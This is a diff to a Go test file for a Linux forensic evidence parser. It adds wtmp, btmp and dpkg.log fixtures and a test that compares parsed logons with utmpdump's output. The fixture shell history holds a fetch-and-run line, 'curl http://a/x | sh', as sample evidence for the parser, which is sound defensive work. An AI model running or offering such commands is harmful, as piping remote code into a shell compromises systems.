@@ -2,6 +2,7 @@ package linux
 
 import (
 	"context"
+	"encoding/binary"
 	"fmt"
 	"os"
 	"os/exec"
@@ -45,6 +46,9 @@ func tree() evidencetest.Tree {
 		"home/anna/.ssh/authorized_keys":        text(keyLine + "\n"),
 		"etc/hosts":                             text("127.0.0.1\tlocalhost\n"),
 		"home/anna/.bash_history":               text("ls\ncurl http://a/x | sh\n"),
+		"var/log/wtmp":                          {Data: slices.Concat(logonRecord(2, "reboot", "~", "6.1.0", nil), logonRecord(userProcess, "anna", "pts/0", "192.0.2.7", []byte{192, 0, 2, 7}))},
+		"var/log/btmp":                          {Data: logonRecord(6, "root", "ssh:notty", "2001:db8::1", []byte{0x20, 1, 0x0d, 0xb8, 15: 1})},
+		"var/log/dpkg.log":                      text("2026-02-01 03:00:00 startup archives unpack\n2026-02-01 03:00:01 install cloudflared:amd64 <none> 2026.1.0\n2026-02-01 03:00:02 status installed cloudflared:amd64 2026.1.0\n"),
 	}
 }
 
@@ -98,6 +102,9 @@ func TestFacts(t *testing.T) {
 		"setting|remote-access|PermitRootLogin|yes|||/etc/ssh/sshd_config",
 		"setting|name-service|hosts|127.0.0.1 localhost|||/etc/hosts",
 		"trace|history|||curl http://a/x | sh|anna|/home/anna/.bash_history",
+		"trace|logon||||anna|/var/log/wtmp|from 192.0.2.7 on pts/0",
+		"trace|failed-logon||||root|/var/log/btmp|from 2001:db8::1 on ssh:notty",
+		"trace|package|cloudflared||||/var/log/dpkg.log|version 2026.1.0",
 	} {
 		if !slices.ContainsFunc(got, func(g string) bool { return strings.TrimRight(g, "|") == strings.TrimRight(want, "|") }) {
 			t.Errorf("nothing says %s\n%s", want, strings.Join(got, "\n"))
@@ -192,5 +199,41 @@ func TestTyped(t *testing.T) {
 	want := []string{"1 -62135596800 ls", "3 1700000000 whoami", "4 1700000100 curl a | sh", "6 1700000200 cat x", "9 -62135596800 pwd"}
 	if !slices.Equal(got, want) {
 		t.Errorf("%q, want %q", got, want)
+	}
+}
+
+// logonRecord is a record of wtmp.
+func logonRecord(kind uint16, user, line, host string, address []byte) []byte {
+	b := make([]byte, logonSize)
+	binary.LittleEndian.PutUint16(b, kind)
+	copy(b[8:], line)
+	copy(b[44:], user)
+	copy(b[76:], host)
+	binary.LittleEndian.PutUint32(b[340:], 1769914800)
+	copy(b[348:], address)
+	return b
+}
+
+// TestLogonsAsUtmpdump: what util-linux' utmpdump reads of the same records.
+func TestLogonsAsUtmpdump(t *testing.T) {
+	if _, err := exec.LookPath("utmpdump"); err != nil {
+		t.Skip("no utmpdump here")
+	}
+	for _, b := range [][]byte{logonRecord(userProcess, "anna", "pts/0", "192.0.2.7", []byte{192, 0, 2, 7}), logonRecord(userProcess, "root", "tty1", "", nil),
+		logonRecord(userProcess, "bob", "pts/1", "mail.example", []byte{0x20, 1, 0x0d, 0xb8, 15: 1})} {
+		file := filepath.Join(t.TempDir(), "wtmp")
+		if err := os.WriteFile(file, b, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		out, err := exec.Command("utmpdump", file).Output()
+		if err != nil {
+			t.Fatal(err)
+		}
+		l := logonOf(b)
+		for _, want := range []string{l.user, l.line, l.host, l.at.Format("2006-01-02T15:04:05")} {
+			if !strings.Contains(string(out), want) {
+				t.Errorf("utmpdump says %s, not %s", out, want)
+			}
+		}
 	}
 }
